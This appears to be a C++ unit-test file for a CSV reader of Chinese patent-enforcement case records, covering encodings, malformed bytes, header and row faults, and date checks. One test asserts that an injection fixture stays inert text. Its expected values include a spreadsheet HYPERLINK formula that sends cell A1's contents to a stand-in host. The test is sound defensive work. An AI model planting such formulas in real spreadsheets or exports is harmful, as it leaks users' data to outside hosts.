// Each file of the collection of faults, and what a reader must do with it.
#include "engine/checks/row.h"
#include "engine/input/claims.h"
#include "engine/input/input.h"
#include "tests/unit/cn_edge.h"
#include "tests/unit/sample.h"

#include <algorithm>
#include <gtest/gtest.h>
#include <set>

namespace appraise {
namespace {

const char* kFields = R"(
[cases]
title = "案件"
unit = "unit"
key = ["unit", "year of docketed_date", "case_no"]
claim = { same = ["case_type", "patent_no", "party", "year of docketed_date"], first_by = "docketed_date" }
fields = [
  { id = "case_no", title = "案件编号", type = "text", required = true, meaning = "m" },
  { id = "unit", title = "省份", type = "unit", required = true, meaning = "m" },
  { id = "case_type", title = "案件类型", type = "category", values = [["infringement", "侵权"], ["counterfeit", "假冒"]], required = true, meaning = "m" },
  { id = "patent_no", title = "专利号", type = "text", meaning = "m" },
  { id = "docketed_date", title = "立案日期", type = "date", required = true, meaning = "m" },
  { id = "closed_date", title = "结案日期", type = "date", meaning = "m" },
  { id = "party", title = "当事人", type = "text", meaning = "m" },
  { id = "penalty", title = "罚款金额（元）", type = "money", meaning = "m" },
]
)";

struct Outcome {
  std::vector<std::string> rules;
  Problems problems;
  std::vector<std::string> rows; // live ones: number|unit|closing day|party
  std::string encoding;
};

Outcome read(const std::string& name) {
  Outcome outcome;
  Problems problems;
  const RecordTypes types = RecordTypes::load(kFields, "fields.toml", problems);
  const Roster roster =
      Roster::load("code,name,short_name,level\n110000,北京市,北京,province\n"
                   "130000,河北省,河北,province\n310000,上海市,上海,province\n120000,天津市,天津,province\n",
                   "roster.csv", problems);
  Appraisal appraisal;
  Input input;
  input.type = "cases";
  input.patterns = {name};
  input.reporting_date = *Date::parse("2018-01-31");
  appraisal.inputs = {input};
  try {
    Records records = read_records(appraisal, cn_edge_files().string(), types, {}, roster, {}, problems);
    settle_claims(records, roster, ClaimRule::first, problems);
    const Table& cases = *records.find("cases");
    outcome.encoding = cases.sources.at(0).encoding;
    for (const Batch& batch : cases.batches) {
      for (std::size_t row = 0; row < batch.rows(); ++row) {
        if (batch.alive[row] == 0) continue;
        const std::int64_t closed = batch.value(5, row);
        outcome.rows.push_back(std::string(batch.text(0, row)) + "|" + roster[batch.units[row]].name + "|" +
                               (closed == kMissing ? "" : Date{static_cast<std::int32_t>(closed)}.text()) + "|" +
                               std::string(batch.text(6, row)));
      }
    }
  } catch (const Error& error) {
    problems = error.problems();
  }
  for (const Problem& problem : problems)
    outcome.rules.push_back(problem.rule);
  outcome.problems = problems;
  return outcome;
}

TEST_F(CnEdge, EncodingsReadAlike) {
  const Names expected = {"京知法处字〔2017〕1号|北京市|2017-03-06|甲公司",
                          "冀知法处字〔2017〕2号|河北省|2017-02-28|乙公司"};
  for (const auto& [name, encoding] :
       {std::pair{"utf8.csv", "UTF-8"}, std::pair{"utf8_bom.csv", "UTF-8 BOM"}, std::pair{"gbk.csv", "GB18030"},
        std::pair{"utf16le_bom.csv", "UTF-16LE"}, std::pair{"utf16be_bom.csv", "UTF-16BE"},
        std::pair{"cr_only.csv", "UTF-8"}, std::pair{"mixed_eol.csv", "UTF-8"}, std::pair{"sep_line.csv", "UTF-8"},
        std::pair{"semicolon.csv", "UTF-8"}}) {
    const Outcome outcome = read(name);
    EXPECT_EQ(outcome.rows, expected) << name;
    EXPECT_EQ(outcome.encoding, encoding) << name;
    EXPECT_TRUE(outcome.rules.empty()) << name;
  }
  EXPECT_NE(read("gb18030_4byte.csv").rows.at(0).find("𠮷䶮㐂（北京）公司"), std::string::npos);
}

TEST_F(CnEdge, BrokenBytesEndTheRun) {
  Outcome outcome = read("mixed_utf8_then_gbk.csv");
  EXPECT_EQ(outcome.rules, Names{"bytes-mixed"});
  EXPECT_EQ(outcome.problems[0].place.row, 3);
  EXPECT_EQ(outcome.problems[0].place.byte, 0xC9);
  outcome = read("invalid_utf8_bytes.csv");
  EXPECT_EQ(outcome.rules, Names{"bytes-broken"});
  EXPECT_EQ(outcome.problems[0].place.row, 3);
  EXPECT_EQ(outcome.problems[0].place.column, 7);
  outcome = read("nul_bytes.csv");
  EXPECT_EQ(outcome.rules, Names{"nul-byte"});
  EXPECT_EQ(outcome.problems[0].place.row, 3);
  EXPECT_EQ(outcome.problems[0].place.column, 8);
  EXPECT_EQ(read("empty.csv").rules, Names{"file-empty"});
  EXPECT_EQ(read("bom_only.csv").rules, Names{"file-empty"});
  EXPECT_EQ(read("header_only.csv").rules, Names{"no-records"});
  outcome = read("unterminated_quote.csv");
  EXPECT_EQ(outcome.problems.back().rule, "quote-unterminated");
  EXPECT_EQ(outcome.problems.back().place.row, 2);
  EXPECT_TRUE(read("big5.csv").rows.empty()) << "never garbled in silence";
  EXPECT_EQ(read("big5.csv").rules, Names{"header-unknown"});
}

TEST_F(CnEdge, Heads) {
  EXPECT_EQ(read("fullwidth_comma.csv").rules, Names{"comma-fullwidth"});
  // Joined; the file has no column for the type.
  EXPECT_EQ(read("two_row_header.csv").rules, (Names{"header-joined", "header-missing"}));
  EXPECT_EQ(read("two_row_header.csv").problems[0].found, "C 立案日期, D 结案日期");
  Outcome outcome = read("unknown_header.csv");
  ASSERT_EQ(outcome.rules, Names{"header-unknown"});
  EXPECT_EQ(outcome.problems[0].found, "E 立按日期");
  EXPECT_EQ(outcome.problems[0].expected, "立案日期");
  EXPECT_EQ(outcome.problems[0].nearest, Names{"立按日期 → 立案日期"});
  outcome = read("duplicate_header.csv");
  EXPECT_EQ(outcome.problems[0].rule, "header-duplicate");
  EXPECT_EQ(outcome.problems[0].found, "B 日期, C 日期");
  outcome = read("header_variants.csv");
  ASSERT_EQ(outcome.rules, (Names{"header-missing", "header-loose"})); // the file has no column for the type
  EXPECT_EQ(outcome.problems[1].found, "A 案件编号, B 省份, C 立案日期, D 结案日期, E 罚款金额（元）");
}

TEST_F(CnEdge, Rows) {
  Outcome outcome = read("title_note_total_rows.csv");
  EXPECT_EQ(outcome.rules, (Names{"rows-before-head", "row-not-data", "row-not-data"}));
  EXPECT_EQ(outcome.rows.size(), 2u);
  outcome = read("ragged.csv");
  EXPECT_EQ(outcome.rules, (Names{"row-ragged", "row-ragged"}));
  EXPECT_EQ(outcome.problems[0].place.row, 4);
  EXPECT_EQ(outcome.problems[1].found, "9");
  outcome = read("quoted_newline.csv");
  ASSERT_EQ(outcome.rules, Names{"impossible-date"});
  EXPECT_EQ(outcome.problems[0].place.row, 4);
  EXPECT_EQ(outcome.rows.size(), 1u);
  outcome = read("duplicates.csv");
  EXPECT_EQ(outcome.rules, (Names{"duplicate-key", "duplicate-key-similar", "claimed-twice"}));
  EXPECT_EQ(outcome.rows.size(), 1u);
}

TEST_F(CnEdge, HostileTextsStayTexts) {
  const char* fields = R"(
[lines]
title = "行"
unit = "unit"
fields = [
  { id = "row", title = "案件编号", type = "text", meaning = "m" },
  { id = "unit", title = "省份", type = "unit", meaning = "m" },
  { id = "party", title = "当事人", type = "text", meaning = "m" },
]
)";
  Problems problems;
  const RecordTypes types = RecordTypes::load(fields, "fields.toml", problems);
  const Roster roster = Roster::load("code,name,short_name,level\n1,一,,province\n", "roster.csv", problems);
  Appraisal appraisal;
  Input input;
  input.type = "lines";
  input.patterns = {"injection.csv"};
  input.reporting_date = *Date::parse("2018-01-31");
  appraisal.inputs = {input};
  const Records records = read_records(appraisal, cn_edge_files().string(), types, {}, roster, {}, problems);
  EXPECT_TRUE(problems.empty());
  const Batch& batch = records.find("lines")->batches.at(0);
  ASSERT_EQ(batch.rows(), 22u);
  EXPECT_EQ(batch.text(2, 0), "=1+1");
  EXPECT_EQ(batch.text(2, 6), "=HYPERLINK(\"http://x.invalid/?\"&A1,\"甲公司\")");
  EXPECT_EQ(batch.text(2, 17).size(), 120000u); // 40,000 characters
}

// A case that is closed before it is docketed is found by the rule of the catalogue.
TEST_F(CnEdge, OrderOfDates) {
  Problems problems;
  const RecordTypes types = RecordTypes::load(kFields, "fields.toml", problems);
  const Roster roster =
      Roster::load("code,name,short_name,level\n110000,北京市,北京,province\n", "roster.csv", problems);
  Appraisal appraisal;
  Input input;
  input.type = "cases";
  input.patterns = {"order_and_range.csv"};
  input.reporting_date = *Date::parse("2018-01-31");
  appraisal.inputs = {input};
  Records records = read_records(appraisal, cn_edge_files().string(), types, {}, roster, {}, problems);
  EXPECT_TRUE(problems.empty());
  const std::string file = "indicators/checks/date-order-closed.toml";
  const auto checks = load_row_checks({{"date-order-closed.toml", sample::slurp(file)}}, types, problems);
  ASSERT_EQ(checks.size(), 1u);
  RowContext context;
  context.records = &records;
  apply_row_checks(checks, records, context, problems);
  ASSERT_EQ(problems.size(), 1u);
  EXPECT_EQ(problems[0].rule, "date-order-closed");
  EXPECT_EQ(problems[0].place.row, 2);
}

// Every file of the collection has its test.
TEST_F(CnEdge, NoFileIsLeftOut) {
  const std::set<std::string> walked = {"utf8.csv",
                                        "utf8_bom.csv",
                                        "gbk.csv",
                                        "gb18030_4byte.csv",
                                        "utf16le_bom.csv",
                                        "utf16be_bom.csv",
                                        "big5.csv",
                                        "mixed_utf8_then_gbk.csv",
                                        "invalid_utf8_bytes.csv",
                                        "nul_bytes.csv",
                                        "bom_only.csv",
                                        "empty.csv",
                                        "header_only.csv",
                                        "cr_only.csv",
                                        "mixed_eol.csv",
                                        "sep_line.csv",
                                        "semicolon.csv",
                                        "fullwidth_comma.csv",
                                        "title_note_total_rows.csv",
                                        "two_row_header.csv",
                                        "duplicate_header.csv",
                                        "header_variants.csv",
                                        "unknown_header.csv",
                                        "ragged.csv",
                                        "unterminated_quote.csv",
                                        "quoted_newline.csv",
                                        "dates.csv",
                                        "numbers.csv",
                                        "provinces.csv",
                                        "patent_numbers.csv",
                                        "injection.csv",
                                        "duplicates.csv",
                                        "order_and_range.csv"};
  std::set<std::string> found;
  for (const auto& entry : std::filesystem::directory_iterator(cn_edge_files())) {
    if (entry.path().extension() == ".csv") found.insert(entry.path().filename().string());
  }
  EXPECT_EQ(found, walked);
}

} // namespace
} // namespace appraise
